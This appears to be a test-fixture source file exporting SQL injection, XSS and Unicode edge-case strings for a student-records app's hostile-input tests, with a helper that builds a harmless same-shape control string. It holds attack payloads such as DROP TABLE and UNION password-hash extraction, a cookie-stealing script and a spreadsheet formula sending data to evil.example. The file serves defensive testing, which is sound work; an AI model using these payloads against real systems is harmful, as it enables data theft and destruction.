import { canonicalText } from '../../domain/index.js';

// Attack strings shared by the hostile-input tests (hostile-input.test.ts, web-attacks.test.ts).

// OWASP testing guide / sqlmap style probes: tautologies, stacked queries, UNION extraction,
// time-based blind, comment and quote-breaking, PostgreSQL dollar quoting and casts.
export const SQL_INJECTION = [
  "' OR '1'='1",
  "'; DROP TABLE student; --",
  "1'; SELECT pg_sleep(3); --",
  "' UNION SELECT username, password_hash FROM app_user --",
  "') OR 1=1 --",
  '" OR ""="',
  '$$; DROP TABLE app_user; $$',
  "1 AND 1=CAST((SELECT password_hash FROM app_user LIMIT 1) AS int)",
  "\\'; --",
  '%',
  '_',
];
// OWASP XSS filter-evasion cheat sheet classics: tag injection, attribute break-out, javascript:
// URLs, template injection for client frameworks, and spreadsheet formulas (CSV injection).
export const XSS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(document.cookie)</script>',
  '"><svg onload=alert(1)>',
  "javascript:alert('x')",
  '{{constructor.constructor("alert(1)")()}}',
  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
];
// Unicode and control edge cases: decomposed Vietnamese (NFD), zero-width and bidi controls,
// NUL (PostgreSQL cannot store it), a lone surrogate, emoji, 10,000 characters.
export const UNICODE = [
  'Nguye\u0302\u0303n Va\u0306n A\u0300nh',
  'Ng\u200Buy\u200Dễn\uFEFF',
  '\u202Egnp.exe',
  'a\u0000b',
  '\uD800',
  '👩‍🎓🇻🇳',
  'x'.repeat(10_000),
];

/**
 * The benign control of a hostile search/filter string: the same text as the server sees it
 * (canonical form: invisible and control characters gone, NFC) with every character that is not
 * a letter, mark, digit or space replaced by as many `x` as it has UTF-16 units. Same length
 * (so the same length limits apply) and the same words, but nothing that SQL, LIKE or a template
 * could interpret. A search that treats its input as a literal can only find, for the hostile
 * string, rows that literally hold its quotes, percent signs and brackets — none in the fixture
 * data — so whatever the hostile value returns beyond what its control returns is a leak.
 */
export function sameShapeControl(hostile: string): string {
  let out = '';
  for (const ch of canonicalText(hostile)) out += /[\p{L}\p{M}\p{N}\s]/u.test(ch) ? ch : 'x'.repeat(ch.length);
  return out;
}
